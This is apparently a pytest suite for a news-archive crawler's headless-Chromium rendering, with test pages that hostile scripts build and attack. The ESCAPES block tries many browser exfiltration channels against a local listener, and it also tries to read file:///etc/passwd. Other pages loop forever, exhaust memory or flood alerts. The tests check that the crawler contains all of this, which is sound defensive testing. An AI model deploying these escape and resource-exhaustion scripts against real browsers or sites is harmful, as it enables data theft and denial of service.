"""Pages that scripts build, and hostile ones, in a real Chromium: each page ends, nothing leaves the site."""

from __future__ import annotations

import json
import os
import socket
import threading
import time
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from itertools import pairwise
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from driver import Crawled, run_crawl, start_crawl
from loopback import (
    NAVIGATION,
    WORDS,
    Answer,
    Ask,
    Loopback,
    article_html,
    headline,
    listing_html,
    reply,
    running,
)

from newsarchive import open_archive
from newsarchive.crawl.rendering.chromium import missing

if TYPE_CHECKING:
    from collections.abc import Iterator

pytestmark = [
    pytest.mark.browser,
    pytest.mark.timeout(300),  # the one crawl of all the hostile pages belongs to the first test
    pytest.mark.skipif(bool(missing()), reason=f"needs a browser: {missing()}"),
]

APP = """
const app = document.getElementById('app');
const article = d => {
  document.title = d.title + ' - 海港日报';
  app.innerHTML = d.nav + `<article><h1>${d.title}</h1><div class="meta"><time
    datetime="2026-05-04T08:00:00+08:00">2026-05-04 08:00</time></div><div class="content">`
    + d.paragraphs.map(p => `<p>${p}</p>`).join('') + '</div></article>';
};
const number = /\\/news\\/(\\d+)\\.html/.exec(location.pathname);
const build = number
  ? fetch('/api/' + number[1]).then(r => r.json()).then(article)
  : fetch('/api/list').then(r => r.json()).then(list => {
      app.innerHTML = list.nav + '<h1>港口</h1><ul class="list">'
        + list.items.map(a => `<li><a href="${a[0]}">${a[1]}</a><span>2026-05-04</span></li>`).join('')
        + '</ul>';
    });
"""


def shell(script: str = "", src: str = "/app.js") -> str:
    own = f"<script>{script}</script>" if script else ""
    loaded = f"<script src='{src}'></script>" if src else ""
    return (
        "<!doctype html><html lang='zh-CN'><head><meta charset='utf-8'><title>海港日报</title></head>"
        f"<body><div id='app'></div>{loaded}{own}</body></html>"
    )


def article_json(number: int) -> str:
    words = [(WORDS[(number + i) % 8], WORDS[(number * 3 + i) % 8]) for i in range(8)]
    paragraphs = [
        f"{first}，编号{number}之{i}的记录显示{second}。" for i, (first, second) in enumerate(words)
    ]
    return json.dumps(
        {"title": headline(number), "paragraphs": paragraphs, "nav": f"<nav>{NAVIGATION}</nav>"}
    )


@dataclass
class Outside:
    """What must never be reached: counts whoever connects or sends a datagram."""

    port: int = 0
    touched: list[str] = field(default_factory=list)


@contextmanager
def outside() -> Iterator[Outside]:
    told = Outside()
    with socket.create_server(("127.0.0.1", 0)) as tcp, socket.socket(type=socket.SOCK_DGRAM) as udp:
        told.port = tcp.getsockname()[1]
        udp.bind(("127.0.0.1", told.port))

        def accept() -> None:
            with suppress(OSError):
                while True:
                    connection, _ = tcp.accept()
                    told.touched.append("tcp: " + connection.recv(200).decode("latin-1"))
                    connection.close()

        def receive() -> None:
            with suppress(OSError):
                while True:
                    told.touched.append(f"udp: {udp.recv(200)!r}")

        for listen in (accept, receive):
            threading.Thread(target=listen, daemon=True).start()
        yield told
        tcp.shutdown(socket.SHUT_RDWR)


ESCAPES = """
const to = 'http://127.0.0.1:PORT/';
const tries = [
  () => fetch(to + 'fetch').catch(() => 0),
  () => fetch(to + 'post', {method: 'POST', mode: 'no-cors', body: 'x'}),
  () => { new Image().src = to + 'image'; }, () => navigator.sendBeacon(to + 'beacon', 'x'),
  () => new EventSource(to + 'events'), () => new WebSocket('ws://127.0.0.1:PORT/socket'),
  () => { document.body.appendChild(document.createElement('iframe')).src = to + 'frame'; },
  () => { const f = document.body.appendChild(document.createElement('iframe'));
          new f.contentWindow.WebSocket('ws://127.0.0.1:PORT/socket2'); },
  () => { for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'stylesheet',
                                'prerender', 'icon']) {
      const l = document.createElement('link'); l.rel = rel; l.href = to + rel; l.as = 'script';
      document.head.appendChild(l); } },
  () => import(to + 'module.js').catch(() => 0), () => window.open(to + 'popup'),
  () => { const a = document.createElement('a'); a.href = to + 'download'; a.download = 'x';
          a.ping = to + 'ping';
          document.body.appendChild(a); a.click(); },
  () => { const f = document.createElement('form'); f.action = to + 'form'; f.method = 'post';
          f.target = '_blank';
          document.body.appendChild(f); f.submit(); },
  () => new Worker(URL.createObjectURL(
    new Blob([`importScripts('${to}worker'); fetch('${to}worker-fetch')`]))),
  () => { const f = document.body.appendChild(document.createElement('iframe'));
          const p = new f.contentWindow.RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:PORT'}]});
          p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o)); },
  () => fetch('/leads-out').catch(() => 0),
  () => fetch('file:///etc/passwd').then(r => r.text()).then(t => leak(t)),
  () => { location.href = to + 'navigation'; },
];
for (const attempt of tries) { try { const p = attempt(); if (p && p.catch) p.catch(() => 0); } catch (e) {} }
"""

HOSTILE = {
    21: "setInterval(() => fetch('/api/poll?' + Math.random()), 50);",
    22: "setInterval(() => { for (let i = 0; i < 50; i++) alert('again'); }, 1);",
    23: "build.then(() => { location.href = '/news/3.html'; });",
    24: "build.then(() => { for (;;) {} });",
    25: "for (;;) {}",
    26: "const box = document.createElement('div'); box.hidden = true;"
    " document.body.append(box); const line = '长'.repeat(100000); for (let i = 0; i < 1000; i++) {"
    " const p = document.createElement('p'); p.textContent = line + i; box.append(p); }",
    27: "build.then(() => { location.href = 'file:///etc/passwd'; });",
    28: ESCAPES,
    29: "const hold = []; for (;;) hold.push(new Array(1000000).fill(Math.random()));",
    30: "location.reload();",
}


def portal(escape_port: int) -> Any:
    def handler(ask: Ask) -> Answer | None:
        path = ask.path.partition("?")[0]
        number = int(digits) if (digits := "".join(filter(str.isdigit, path))) else 0
        if path == "/api/list":
            items = [(f"/news/{n}.html", headline(n)) for n in range(1, 6)]
            told = {"nav": f"<nav>{NAVIGATION}</nav>", "items": items}
            return reply(json.dumps(told), content_type="application/json")
        if path.startswith("/api/"):
            return reply(article_json(number), content_type="application/json")
        if path == "/app.js":
            return reply(APP, content_type="text/javascript; charset=utf-8")
        if path == "/leads-out":
            return reply("", 302, Location=f"http://127.0.0.1:{escape_port}/redirected")
        if path == "/":
            hostile = [(f"/news/{n}.html", headline(n)) for n in HOSTILE]
            return reply(listing_html("首页", hostile, f"<nav>{NAVIGATION}</nav>"))
        if path in ("/category/gangkou/", "/category/hangyun/"):
            return reply(shell())
        if path.startswith("/news/"):
            script = HOSTILE.get(number, "").replace("PORT", str(escape_port))
            return reply(shell(script, "" if script == "for (;;) {}" else "/app.js"))
        return None

    return handler


@dataclass
class Visited:
    crawled: Crawled
    articles: dict[int, Any]
    server: Loopback
    outside: Outside


@pytest.fixture(scope="module")
def visited(tmp_path_factory: pytest.TempPathFactory) -> Visited:
    """One crawl of a portal of scripts, with a page for each kind of malice."""
    folder = tmp_path_factory.mktemp("rendered")
    with outside() as out, running(portal(out.port)) as server:
        crawled = run_crawl(server.url + "/", folder, wait=280, render="auto", timeout=5)
        time.sleep(0.2)
    with open_archive(folder) as archive:
        articles = {
            int("".join(filter(str.isdigit, a.url.rpartition("/")[2]))): a for a in archive.articles()
        }
    return Visited(crawled, articles, server, out)


def test_the_crawl_ends_in_order(visited: Visited) -> None:
    assert visited.crawled.report["status"] == "finished", visited.crawled.stderr


@pytest.mark.parametrize("number", range(1, 6))
def test_an_article_built_from_json_is_stored(visited: Visited, number: int) -> None:
    assert visited.articles[number].title == headline(number)
    assert visited.articles[number].body.split("\n") == json.loads(article_json(number))["paragraphs"]
    assert visited.articles[number].published == "2026-05-04T08:00:00+08:00"


def test_a_listing_built_by_a_script_leads_to_its_articles(visited: Visited) -> None:
    assert visited.server.paths["/api/list"] == 2
    assert set(range(1, 6)) <= set(visited.articles)


def test_pages_are_asked_for_once_and_scripts_once_a_run(visited: Visited) -> None:
    assert [visited.server.paths[f"/news/{n}.html"] for n in (1, 2, 4, 5)] == [1, 1, 1, 1]
    assert 1 <= visited.server.paths["/app.js"] <= 2  # two pages may begin at once


@pytest.mark.parametrize("number", [21, 22, 24, 28])
def test_what_a_busy_page_has_built_is_read(visited: Visited, number: int) -> None:
    assert visited.articles[number].title == headline(number)


def test_a_page_whose_scripts_never_let_go_is_bounded(visited: Visited) -> None:
    assert visited.server.paths["/news/25.html"] == 1
    assert 25 not in visited.articles


def test_a_hundred_megabytes_of_elements_are_refused(visited: Visited) -> None:
    assert visited.crawled.report["reasons"].get("failed:too-large") == 1
    assert visited.crawled.megabytes < 400


def test_memory_without_bound_ends_the_page_alone(visited: Visited) -> None:
    reasons = visited.crawled.report["reasons"]
    assert reasons.get("failed:render-crashed", 0) + reasons.get("failed:render-memory", 0) == 1
    assert 29 not in visited.articles


def test_a_script_that_goes_on_within_the_site_is_followed(visited: Visited) -> None:
    assert 23 not in visited.articles


def test_files_are_not_read(visited: Visited) -> None:
    assert all("root:" not in article.body for article in visited.articles.values())


def test_nothing_leaves_the_site(visited: Visited) -> None:
    assert visited.outside.touched == []


def test_endless_asking_is_bounded(visited: Visited) -> None:
    polls = sum(count for path, count in visited.server.paths.items() if path.startswith("/api/poll"))
    assert polls <= 100


def test_rendering_is_reported(visited: Visited) -> None:
    assert visited.crawled.report["rendering"]["pages"] >= 13
    assert visited.crawled.report["rendering"]["failed"] == 2


# -- choices


def small(ask: Ask) -> Answer | None:
    return portal(9)(ask) if ask.path != "/" else reply(shell())


def test_never_renders_nothing_and_says_nothing(tmp_path: Path) -> None:
    with running(small) as server:
        report = run_crawl(server.url + "/", tmp_path, render="never").report
    assert report["articles_new"] == 0
    assert report["rendering"] == {}
    assert report["advice"] == ""


def test_without_a_browser_the_report_says_what_to_install(
    tmp_path: Path,
) -> None:
    home = reply(listing_html("首页", [(f"/news/{n}.html", headline(n)) for n in range(1, 6)]))
    with running(lambda ask: home if ask.path == "/" else portal(9)(ask)) as server:
        without = run_crawl(server.url + "/", tmp_path, render="auto", browser="/no/such/browser").report
        then = run_crawl(server.url + "/", tmp_path, render="auto").report
    assert without["rendering"] == {"missing": 7}  # two sections and the articles
    assert "CHROME" in without["advice"]
    assert then["articles_new"] == 5


def test_a_start_page_of_scripts_alone_is_told_of_too(tmp_path: Path) -> None:
    with running(small) as server:
        report = run_crawl(server.url + "/", tmp_path, render="auto", browser="/no/such/browser").report
    assert report["rendering"] == {"missing": 1}
    assert report["advice"]


def test_pages_that_live_on_other_hosts_scripts_say_so(tmp_path: Path) -> None:
    page = reply(shell(src="http://cdn.scripts-example.net/bundle.js"))
    home = reply(listing_html("首页", [(f"/news/{n}.html", headline(n)) for n in range(1, 6)]))
    with running(lambda ask: home if ask.path == "/" else page if "/news/" in ask.path else None) as server:
        report = run_crawl(server.url + "/", tmp_path, render="auto").report
    assert report["reasons"]["other:empty-rendered"] >= 1
    assert "cdn.scripts-example.net" in report["advice"]


def test_always_without_a_browser_is_refused_at_the_start(tmp_path: Path) -> None:
    with running(small) as server:
        crawled = run_crawl(server.url + "/", tmp_path, render="always", browser="/no/such/browser")
    assert crawled.status == 1
    assert "CHROME" in crawled.error


def test_the_browser_asks_as_slowly_as_the_crawl_and_by_the_same_rules(tmp_path: Path) -> None:
    forbidden = reply("User-agent: *\nDisallow: /api/2\n", content_type="text/plain")
    home = reply(listing_html("首页", [(f"/news/{n}.html", headline(n)) for n in range(1, 6)]))
    pages = {"/": home, "/robots.txt": forbidden}
    page = portal(9)
    with running(lambda ask: pages.get(ask.path) or page(ask)) as server:
        run_crawl(server.url + "/", tmp_path, wait=100, render="auto", delay=0.5, concurrency=1)
    moments = sorted(ask.at for ask in server.asked)
    with open_archive(tmp_path) as archive:
        titles = {article.title for article in archive.articles()}
    assert titles == {headline(n) for n in (1, 3, 4, 5)}
    assert server.paths["/api/2"] == 0
    assert min(later - sooner for sooner, later in pairwise(moments)) > 0.3  # the delay varies by a fifth


def test_a_profile_renders_pages_that_are_not_empty_without(tmp_path: Path) -> None:
    profile = tmp_path / "scripted.toml"
    profile.write_text('key = "scripted"\nrender = true\n', encoding="utf-8")
    line = "脚本更正了这一段的内容，编号一。"
    script = f"<script>document.querySelector('.content p').textContent = '{line}'</script>"
    links = [(f"/news/{n}.html", headline(n)) for n in range(1, 6)]
    pages = {f"/news/{n}.html": reply(article_html(n, extra=script)) for n in range(1, 6)}
    pages["/"] = reply(listing_html("首页", links))
    with running(lambda ask: pages.get(ask.path)) as server:
        run_crawl(server.url + "/", tmp_path, render="auto", profile=str(profile))
    with open_archive(tmp_path) as archive:
        firsts = [article.body.split("\n")[0] for article in archive.articles()]
    assert firsts == [line] * 5


def test_an_interruption_ends_the_browser_too(tmp_path: Path) -> None:
    spinner = reply(shell("setInterval(() => fetch('/api/poll?' + Math.random()), 50);", src=""))
    with running(lambda ask: None if "." in ask.path else spinner) as server:
        crawl = start_crawl(server.url + "/", tmp_path, render="auto")
        wait_for_polls(server)
        browser = descendants(crawl.pid)
        crawl.send_signal(2)
        crawl.communicate(10)
        left = still_there(browser)
    assert crawl.returncode == 130
    assert any("--remote-debugging" in line for line in browser.values())
    assert left == []


def test_a_killed_crawl_leaves_no_browser(tmp_path: Path) -> None:
    spinner = reply(shell("setInterval(() => fetch('/api/poll?' + Math.random()), 50);", src=""))
    with running(lambda ask: None if "." in ask.path else spinner) as server:
        crawl = start_crawl(server.url + "/", tmp_path, render="auto")
        wait_for_polls(server)
        browser = descendants(crawl.pid)
        crawl.kill()
        crawl.communicate(10)
        left = still_there(browser)
    assert left == []


def test_the_crawl_outlives_a_crash_of_the_browser(tmp_path: Path) -> None:
    spinner = shell("setInterval(() => fetch('/api/poll?' + Math.random()), 50);", src="")
    page = portal(9)
    links = [("/news/40.html", headline(40)), *[(f"/news/{n}.html", headline(n)) for n in range(1, 6)]]
    pages = {"/": reply(listing_html("首页", links)), "/news/40.html": reply(spinner)}
    with running(lambda ask: pages.get(ask.path) or page(ask)) as server:
        crawl = start_crawl(server.url + "/", tmp_path, render="auto", timeout=5)
        wait_for_polls(server)
        browser = next(pid for pid, line in descendants(crawl.pid).items() if "--remote-debugging" in line)
        os.kill(browser, 9)
        crawl.communicate(60)
    with open_archive(tmp_path) as archive:
        titles = {article.title for article in archive.articles()}
    assert crawl.returncode in (0, 2)
    assert titles == {headline(n) for n in range(1, 6)}


def wait_for_polls(server: Loopback) -> None:
    until = time.monotonic() + 60
    while not any(path.startswith("/api/poll") for path in server.paths) and time.monotonic() < until:
        time.sleep(0.1)


def descendants(pid: int) -> dict[int, str]:
    """Command lines of the processes below ``pid``."""
    parents, lines = {}, {}
    for folder in Path("/proc").glob("[0-9]*"):
        with suppress(OSError):
            parents[int(folder.name)] = int((folder / "stat").read_text().rpartition(")")[2].split()[1])
            lines[int(folder.name)] = (folder / "cmdline").read_bytes().decode("utf-8", "replace")
    found, level = {}, {pid}
    while level := {child for child, parent in parents.items() if parent in level}:
        found |= {child: lines[child] for child in level if child in lines}
    return found


def still_there(processes: dict[int, str], seconds: float = 8) -> list[str]:
    """Which of ``processes`` live on after ``seconds``."""
    until = time.monotonic() + seconds
    while (
        left := [line for pid, line in processes.items() if is_running(pid, line)]
    ) and time.monotonic() < until:
        time.sleep(0.2)
    return left


def is_running(pid: int, line: str) -> bool:
    try:
        return bool(line) and Path(f"/proc/{pid}/cmdline").read_bytes().decode("utf-8", "replace") == line
    except OSError:
        return False
